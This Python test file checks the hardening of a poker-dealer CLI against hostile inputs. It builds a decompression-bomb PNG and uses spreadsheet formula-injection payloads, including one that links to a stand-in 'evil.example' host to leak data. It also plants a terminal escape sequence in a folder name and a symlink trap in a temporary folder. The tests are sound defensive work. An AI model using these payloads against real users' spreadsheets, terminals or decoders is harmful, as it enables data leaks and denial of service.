"""Issue 20, items 6, 7, 8, 10, 13 and 14: a decompression bomb, a full disk under live's log, a closed
standard output, spreadsheet formulas in CSV cells, odds for 50,000 players, escapes in serve's paths.

Each test runs the repro of the issue through the real CLI (typer's CliRunner, or a process where a
closed descriptor, memory or a terminal is involved) and asserts the sentence, the exit code and
that nothing is lost.
"""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import random
import struct
import subprocess
import sys
import time
import zlib
from pathlib import Path

import numpy as np
import pytest
from typer.testing import CliRunner

from dealer_assist.cli import app
from dealer_assist.cli.output import CLOSED_STDOUT
from dealer_assist.live.history import HandLog, read_log
from dealer_assist.rules.odds import MAX_ODDS_PLAYERS
from dealer_assist.vision import images
from dealer_assist.vision.images import MAX_IMAGE_PIXELS, ImageError, check_pixels, load_image
from ledger_helpers import BOARD, POCKETS, logged_hand
from live_helpers import plain_profile, write_frames

REPO = Path(__file__).resolve().parents[1]
runner = CliRunner()


def run(*args, env=None, input=None):
    result = runner.invoke(app, [str(a) for a in args], env={"COLUMNS": "200", **(env or {})}, input=input)
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result


def process_env(**extra) -> dict:
    return {**os.environ, "PYTHONPATH": str(REPO), "COLUMNS": "200", "DEALER_ASSIST_NO_DISPLAY": "1", **extra}


# -- 6. a decompression bomb ------------------------------------------------------------------------


def bomb_png(path: Path, width: int = 30000, height: int = 30000) -> None:
    """A real, whole PNG of ``width`` x ``height`` black pixels (1-bit grey): ~110 kB on disk for
    30000x30000, which OpenCV decodes into 2.7 GB of BGR pixels."""
    row = b"\x00" * (1 + (width + 7) // 8)  # filter byte, then the bits
    comp = zlib.compressobj(9)
    idat = b"".join(comp.compress(row * 1000) for _ in range(height // 1000)) + comp.compress(
        row * (height % 1000)) + comp.flush()

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
                     + chunk(b"IDAT", idat) + chunk(b"IEND", b""))


def header_only_png(path: Path, width: int, height: int) -> None:
    """A PNG whose header declares ``width`` x ``height`` (its pixels are not there: never decoded here)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
                     + chunk(b"IEND", b""))


BOMB_SENTENCE = ("the image is too large to decode (900 megapixels): a photo may have at most 400 megapixels here "
                 "(twice the largest phone photo), so it is not read.")


@pytest.mark.slow  # a process, to measure its memory
def test_6_a_30000_px_square_png_is_refused_from_its_header_in_bounded_memory(tmp_path):
    bomb = tmp_path / "bomb.png"
    bomb_png(bomb)
    assert bomb.stat().st_size < 3_000_000
    # the peak memory of the command alone: a process whose only child it is
    probe = ("import json, resource, subprocess, sys; done = subprocess.run(sys.argv[1:], capture_output=True); "
             "print(json.dumps({'rc': done.returncode, 'out': done.stdout.decode(), 'err': done.stderr.decode(), "
             "'kb': resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss}))")
    done = subprocess.run([sys.executable, "-c", probe, sys.executable, "-m", "dealer_assist", "read", str(bomb),
                           "--json"], capture_output=True, env=process_env(), cwd=REPO, timeout=120)
    got = json.loads(done.stdout)
    assert got["rc"] == 1, got
    assert json.loads(got["out"]) == {"image": str(bomb), "error": f"{bomb}: {BOMB_SENTENCE}", "notes": []}
    assert got["err"] == f"Error: {bomb}: {BOMB_SENTENCE}\n"
    assert got["kb"] < 700_000, got["kb"]  # was 5.4 GB and 34 s


def test_6_score_with_two_jobs_refuses_the_bombs_and_scores_the_other_hand(tmp_path):
    batch = tmp_path / "batch"
    (batch / "bombs").mkdir(parents=True)
    bomb_png(batch / "bombs" / "board.png")
    (batch / "bombs" / "alice.png").write_bytes((batch / "bombs" / "board.png").read_bytes())
    (batch / "bombs" / "hand.json").write_text('{"position": 4}')  # no serials: the photos are read
    good = {"board.jpg": ["1234567", "7654321", "5555555"], "alice.jpg": ["1111111", "2222222"],
            "bob.jpg": ["3333333", "9999999"]}
    (batch / "h1").mkdir()
    for name in good:
        (batch / "h1" / name).write_bytes(b"not a photo: hand.json gives its serials")
    (batch / "h1" / "hand.json").write_text(json.dumps({"position": 4, "serials": good}))
    out = tmp_path / "v.json"
    result = run("score", batch, "--jobs", "2", "--json", out)
    assert result.exit_code == 0, result.output
    verdicts = {Path(v["folder"]).name: v for v in json.loads(out.read_text())}
    assert verdicts["bombs"]["status"] == "needs_review"
    assert verdicts["bombs"]["reasons"] == [f"{n}.png: {batch / 'bombs' / n}.png: {BOMB_SENTENCE}"
                                            for n in ("alice", "board")]
    assert verdicts["h1"]["status"] == "scored" and verdicts["h1"]["winners"] == ["bob"]


def test_6_the_limit_is_twice_a_200_megapixel_photo_and_checked_from_the_header_alone(tmp_path):
    assert MAX_IMAGE_PIXELS == 400_000_000
    phone = tmp_path / "phone.png"
    header_only_png(phone, 16320, 12240)  # a 200-megapixel phone photo: Pillow's own default refuses it
    check_pixels(phone.read_bytes(), phone)
    big = tmp_path / "big.png"
    header_only_png(big, 20001, 20000)  # just over 400 megapixels
    with pytest.raises(ImageError, match=r"too large to decode \(400 megapixels\): a photo may have at most 400"):
        check_pixels(big.read_bytes(), big)


def test_6_a_heic_photo_is_checked_from_its_header_too(tmp_path, monkeypatch):
    import pillow_heif
    from PIL import Image

    photo = tmp_path / "phone.heic"
    rgb = np.zeros((120, 160, 3), np.uint8)
    rgb[:, :80] = (255, 0, 0)
    pillow_heif.from_bytes(mode="RGB", size=(160, 120), data=rgb.tobytes()).save(str(photo), quality=90)
    image, _ = load_image(photo)
    assert image.shape == (120, 160, 3) and image[:, :70, 2].mean() > 200  # read: red on the left (BGR)
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", Image.MAX_IMAGE_PIXELS)  # restored after the test
    monkeypatch.setattr(images, "MAX_IMAGE_PIXELS", 160 * 120 - 1)
    with pytest.raises(ImageError, match="too large to decode"):
        load_image(photo)


# -- 7. live's log on a full disk -----------------------------------------------------------------------

HANDS = [
    {"board": ["1230567", "9990111", "4445444"], "alice": ["7654321", "0102030"], "boris": ["3336333", "8888888"],
     "chips": {"alice": 10, "boris": 10}},
    {"board": ["5550555", "1234567", "7654321"], "alice": ["3333333", "3330333"], "boris": ["4444444", "6666666"],
     "chips": {"alice": 20, "boris": 30}},
    {"board": ["1119111", "1118111", "1117111"], "alice": ["1111111", "2222222"], "boris": ["9999999", "9990999"],
     "chips": {"alice": 5, "boris": 7}},
]


def typed_hands() -> str:
    lines = []
    for k, hand in enumerate(HANDS):
        if k:
            lines.append("new")
        lines += [f"board {i} {s}" for i, s in enumerate(hand["board"], 1)]
        lines += [f"{seat} {i} {s}" for seat in ("alice", "boris") for i, s in enumerate(hand[seat], 1)]
        lines += [f"chips {seat} {n}" for seat, n in hand["chips"].items()]
    return "\n".join(lines) + "\n"


class FullDisk:
    """``os.write`` of a filesystem that fills up under the log: the first record goes in whole; the next
    write takes 100 bytes (a short write, as a nearly full disk gives), then every write fails ENOSPC --
    until write number ``room_from`` (room on the disk again), when given."""

    def __init__(self, log: Path, monkeypatch, room_from: int | None = None) -> None:
        self.log = str(log)
        self.real = os.write
        self.records = 0
        self.room_from = room_from
        monkeypatch.setattr(os, "write", self)

    def __call__(self, fd: int, data) -> int:
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            target = ""
        if target != self.log:
            return self.real(fd, data)
        self.records += 1
        if self.records == 1 or (self.room_from is not None and self.records >= self.room_from):
            return self.real(fd, data)
        if self.records == 2:
            return self.real(fd, bytes(data[:100]))
        raise OSError(errno.ENOSPC, "No space left on device")


@pytest.fixture
def table(tmp_path, monkeypatch):
    monkeypatch.setenv("DEALER_ASSIST_NO_DISPLAY", "1")
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    frames = write_frames(tmp_path / "frames", 2)
    profile = plain_profile((320, 180), ["alice", "boris"], tmp_path / "table.json")
    return frames, str(profile.path), tmp_path


def live_three_hands(frames, profile, log):
    return run("live", "--camera", frames, "--calibration", profile, "--position", "4", "--no-ocr", "--no-window",
               "--json", "--log", log, input=typed_hands())


def test_7_hands_the_full_disk_refuses_are_printed_kept_beside_the_log_and_appended_later(table, monkeypatch):
    frames, profile, tmp = table
    log = tmp / "hands.jsonl"
    disk = FullDisk(log, monkeypatch)
    result = live_three_hands(frames, profile, log)
    monkeypatch.setattr(os, "write", disk.real)  # room on the disk again
    assert result.exit_code == 2, result.output
    err = result.stderr
    assert ("The hand log " + str(log) + " cannot be written (No space left on device); the hand is not in it "
            "(the log is as it was before).") in err
    # the log holds hand 1 whole, and nothing of hand 2: no torn line is left
    assert log.read_bytes().endswith(b"\n") and log.read_bytes().count(b"\n") == 1
    records, warnings = read_log(log)
    assert warnings == [] and [r["hand"] for r in records] == [1]
    # hands 2 and 3, as JSON on stderr: their chips and settlement
    lines = err.splitlines()
    head = lines.index(f"2 hand(s) could not be written to the hand log {log}; here they are as JSON, one line each "
                       f"(their chips and settlement included):")
    printed = [json.loads(line) for line in lines[head + 1:head + 3]]
    assert [r["hand"] for r in printed] == [2, 3]
    assert [r["chips"] for r in printed] == [HANDS[1]["chips"], HANDS[2]["chips"]]
    assert all(sum(r["settlement"]["payouts"].values()) == sum(r["chips"].values()) for r in printed)
    # kept in a file beside the log, and the command that appends it is shown
    fallback = tmp / f"hands.unlogged-{printed[0]['session']}.jsonl"
    assert [json.loads(x) for x in fallback.read_text().splitlines()] == printed
    assert lines[head + 3] == (f"They are kept in {fallback}. Once the log can be written again (room on the disk), "
                               f"append them to it with:")
    command = lines[head + 4].strip()
    assert command == f"cat {fallback} >> {log}"
    assert lines[-1] == (f"Error: 2 hand(s) are not in the hand log {log} (no space left on device); their JSON is "
                         f"printed above, with the command that appends them.")
    subprocess.run(["bash", "-c", command], check=True)
    ledger = run("ledger", "--log", log, "--json")
    assert ledger.exit_code == 0 and json.loads(ledger.stdout)["hands"] == 3
    assert [r["hand"] for r in read_log(log)[0]] == [1, 2, 3]


def test_7_hands_that_waited_go_into_the_log_in_order_once_it_has_room_again(table, monkeypatch):
    frames, profile, tmp = table
    log = tmp / "hands.jsonl"
    FullDisk(log, monkeypatch, room_from=4)  # hand 2's two writes fail; hand 3 finds room
    result = live_three_hands(frames, profile, log)
    assert result.exit_code == 0, result.output
    assert [r["hand"] for r in read_log(log)[0]] == [1, 2, 3]  # hand 2 before hand 3: a carry follows the order
    fallback = next(tmp.glob("hands.jsonl")).with_name(f"hands.unlogged-{read_log(log)[0][0]['session']}.jsonl")
    assert (f"The hand log {log} cannot be written (No space left on device); the hand is not in it (the log is as "
            f"it was before). It is kept in {fallback}; the log is tried again when the next hand finishes."
            ) in result.stderr  # said when hand 2 finished
    assert result.stderr.splitlines()[-1] == (f"The hand log {log} could not take 1 hand(s) for a while; they were "
                                              f"written to it later, in order: nothing is missing.")
    assert not fallback.exists()


def test_7_when_the_log_s_folder_takes_no_file_the_hands_go_to_the_data_folder(table, monkeypatch):
    from dealer_assist.live import unlogged

    frames, profile, tmp = table
    log = tmp / "hands.jsonl"
    FullDisk(log, monkeypatch)
    real = unlogged.write_atomic

    def full_folder(path, data):
        if Path(path).parent == tmp:
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(path, data)

    monkeypatch.setattr(unlogged, "write_atomic", full_folder)
    result = live_three_hands(frames, profile, log)
    assert result.exit_code == 2
    kept = list((tmp / "data" / "dealer-assist" / "unlogged").glob("hands.unlogged-*.jsonl"))
    assert len(kept) == 1 and [json.loads(x)["hand"] for x in kept[0].read_text().splitlines()] == [2, 3]
    assert f"They are kept in {kept[0]}." in result.stderr
    assert not list(tmp.glob("hands.unlogged-*"))


def test_7_a_torn_line_that_cannot_be_taken_back_is_said(tmp_path, monkeypatch):
    log = tmp_path / "hands.jsonl"
    hands = HandLog(log)
    hands.append(logged_hand("AB", BOARD, {"A": POCKETS["A"], "B": POCKETS["B"]}, chips={"A": 5, "B": 5}))
    FullDisk(log, monkeypatch).records = 1  # the next record is cut after 100 bytes

    def no_truncate(fd, size):
        raise OSError(errno.EIO, "Input/output error")

    monkeypatch.setattr(os, "ftruncate", no_truncate)
    with pytest.raises(OSError) as info:
        hands.append(logged_hand("AB", BOARD, {"A": POCKETS["A"], "B": POCKETS["B"]}, hand=2))
    assert str(info.value) == (f"The hand log {log} cannot be written (No space left on device); part of the hand "
                               f"may be left as its last line, torn, which the log's readers skip with a warning.")
    records, warnings = read_log(log)
    assert [r["hand"] for r in records] == [1] and len(warnings) == 1 and "line 2" in warnings[0]


# -- 8. standard output closed ------------------------------------------------------------------------


@pytest.mark.slow  # processes
@pytest.mark.parametrize("args", [["ledger", "--log", "LOG"], ["ledger", "--log", "LOG", "--csv"],
                                  ["odds", "--hands", "HANDS"], ["rules"], ["formats"],
                                  ["serve", "--log", "LOG", "--port", "0"],
                                  ["live", "--camera", "0", "--log", "LOG"],  # ended at import, before main()
                                  ["history", "--log", "LOG"]])
def test_8_a_closed_standard_output_is_one_sentence_and_exit_1(tmp_path, args):
    log = tmp_path / "hands.jsonl"
    HandLog(log).append(logged_hand("AB", BOARD, {"A": POCKETS["A"], "B": POCKETS["B"]}, chips={"A": 5, "B": 5}))
    hands = tmp_path / "allin.jsonl"
    hands.write_text(json.dumps({"position": 4, "board": [], "players": [
        {"name": "A", "pocket": ["7654321", "0102030"]}, {"name": "B", "pocket": ["9990999", "1234000"]}]}) + "\n")
    words = [str(log) if a == "LOG" else str(hands) if a == "HANDS" else a for a in args]
    command = " ".join(f"'{w}'" for w in [sys.executable, "-m", "dealer_assist", *words]) + " >&-"
    done = subprocess.run(["bash", "-c", command], capture_output=True, env=process_env(), cwd=REPO, timeout=60)
    assert done.returncode == 1
    assert done.stderr.decode() == CLOSED_STDOUT + "\n"  # was an AttributeError's traceback


# -- 10. spreadsheet formulas in CSV cells -------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?leak","win")', "@SUM(1+1)", "+1+1", "-1+1"]


def test_10_ledger_csv_writes_formula_names_as_text_and_negative_nets_as_numbers(tmp_path):
    log = tmp_path / "hands.jsonl"
    names = FORMULAS[:3]
    pockets = dict(zip(names, POCKETS.values()))
    HandLog(log).append(logged_hand(names, BOARD, pockets, chips={n: 10 for n in names}))
    result = run("ledger", "--log", log, "--csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    players = {r["name"]: r for r in rows if r["kind"] == "player"}
    assert set(players) == {"'" + n for n in names}  # was the formulas themselves
    nets = sorted(int(r["net"]) for r in players.values())
    assert nets == [-10, -10, 20]  # negative numbers stay numbers, without an apostrophe
    for r in rows:
        assert not any((cell or "").startswith(("=", "+", "@")) for cell in r.values()), r
    transfers = [r for r in rows if r["kind"] == "transfer"]
    assert transfers and all(r["name"].startswith("'") and r["to"].startswith("'") for r in transfers)


def test_10_score_csv_writes_a_formula_folder_name_as_text(tmp_path, monkeypatch):
    good = {"board.jpg": ["1234567", "7654321", "5555555"], "alice.jpg": ["1111111", "2222222"],
            "bob.jpg": ["3333333", "9999999"]}
    for name in FORMULAS:
        folder = tmp_path / name.replace("/", "_")
        folder.mkdir()
        for image in good:
            (folder / image).write_bytes(b"not a photo: hand.json gives its serials")
        (folder / "hand.json").write_text(json.dumps({"position": 4, "serials": good}))
    monkeypatch.chdir(tmp_path)
    folders = [n.replace("/", "_") for n in FORMULAS]
    result = run("score", "--csv", tmp_path / "v.csv", "-j", "1", "--", *folders)
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO((tmp_path / "v.csv").read_text())))
    assert {r["folder"] for r in rows} == {"'" + f for f in folders}
    assert all(r["status"] == "scored" for r in rows)


# -- 13. odds for 50,000 players ------------------------------------------------------------------------


def allin_line(players: int) -> str:
    rng = random.Random(players)
    serials = rng.sample(range(10**7), 2 * players)
    return json.dumps({"position": 4, "board": [], "players": [
        {"name": f"P{i}", "pocket": [f"{serials[2 * i]:07d}", f"{serials[2 * i + 1]:07d}"]} for i in range(players)]})


def test_13_odds_refuse_more_players_than_the_limit_in_one_sentence(tmp_path):
    hands = tmp_path / "allin.jsonl"
    hands.write_text(allin_line(50_000) + "\n" + allin_line(MAX_ODDS_PLAYERS + 1) + "\n" + allin_line(MAX_ODDS_PLAYERS)
                     + "\n")
    assert hands.stat().st_size > 2_500_000
    start = time.monotonic()
    result = run("odds", "--hands", hands, "--json")
    assert time.monotonic() - start < 30  # was 92 s for the first line alone
    assert result.exit_code == 1
    lines = [json.loads(x) for x in result.stdout.splitlines()]
    assert lines[0] == {"error": f"line 1: the hand has 50,000 players; the odds are worked out for at most "
                                 f"{MAX_ODDS_PLAYERS} (a table seats 3-8, RULES.md §1)."}
    assert lines[1]["error"].startswith(f"line 2: the hand has {MAX_ODDS_PLAYERS + 1} players;")
    odds = lines[2]["players"]
    assert len(odds) == MAX_ODDS_PLAYERS
    assert all(0 <= p["win"] <= 1 and 0 <= p["tie"] <= 1 for p in odds.values())
    assert 0.99 <= sum(p["win"] for p in odds.values()) + lines[2].get("split", 0) or any(
        p["tie"] for p in odds.values())  # someone wins alone, or the pot is shared
    assert result.stderr.strip().endswith("2 hand line(s) could not be evaluated.")


# -- 14. serve's paths, escaped --------------------------------------------------------------------------


@pytest.mark.slow  # a server process
def test_14_serve_shows_an_escape_in_a_folder_name_as_text_at_start_and_in_warnings(tmp_path):
    folder = tmp_path / "night\x1b]0;owned\x07"
    folder.mkdir()
    log, state = folder / "hands.jsonl", folder / "hands.state.json"
    server = subprocess.Popen([sys.executable, "-m", "dealer_assist", "serve", "--log", str(log), "--port", "0",
                               "--delay", "0"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=process_env(),
                              cwd=REPO)
    try:
        banner = server.stdout.readline()
        state.write_text("{not json")  # the server warns about the state file, naming it
        os.set_blocking(server.stderr.fileno(), False)
        warning = b""
        end = time.monotonic() + 30
        while b"\n" not in warning and time.monotonic() < end:
            warning += server.stderr.read() or b""
            time.sleep(0.1)
    finally:
        server.terminate()
        server.wait(timeout=30)
    shown = "night\\x1b]0;owned\\x07"
    assert b"\x1b" not in banner and b"\x07" not in banner
    assert banner.decode().startswith(f"Spectator screen (with no delay), following {tmp_path}/{shown}/hands.jsonl")
    assert b"\x1b" not in warning and b"\x07" not in warning
    assert warning.decode().startswith(f"warning: The state file {tmp_path}/{shown}/hands.state.json is not JSON")


def test_7_the_last_resort_is_a_private_folder_in_the_temporary_folder(tmp_path, monkeypatch):
    from dealer_assist.live import unlogged

    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    monkeypatch.setenv("TMPDIR", str(tmp_path / "tmp"))
    (tmp_path / "tmp").mkdir()
    monkeypatch.setattr(unlogged.tempfile, "tempdir", None)  # TMPDIR is read again
    log = tmp_path / "full" / "hands.jsonl"
    real = unlogged.write_atomic

    def full(path, data):  # the log's disk holds the data folder too
        if str(path).startswith((str(tmp_path / "full"), str(tmp_path / "data"))):
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(path, data)

    monkeypatch.setattr(unlogged, "write_atomic", full)
    (tmp_path / "tmp" / "hands.unlogged-s1.jsonl").symlink_to(tmp_path / "victim")  # another user's trap
    kept = unlogged.UnloggedHands(log)
    path = kept.keep(logged_hand("AB", BOARD, {"A": POCKETS["A"], "B": POCKETS["B"]}, chips={"A": 5, "B": 5}))
    assert path is not None and path.parent.parent == tmp_path / "tmp" and path.parent.name.startswith(
        "dealer-assist-unlogged-")
    assert (path.parent.stat().st_mode & 0o777) == 0o700 and not (tmp_path / "victim").exists()
    assert json.loads(path.read_text())["chips"] == {"A": 5, "B": 5}
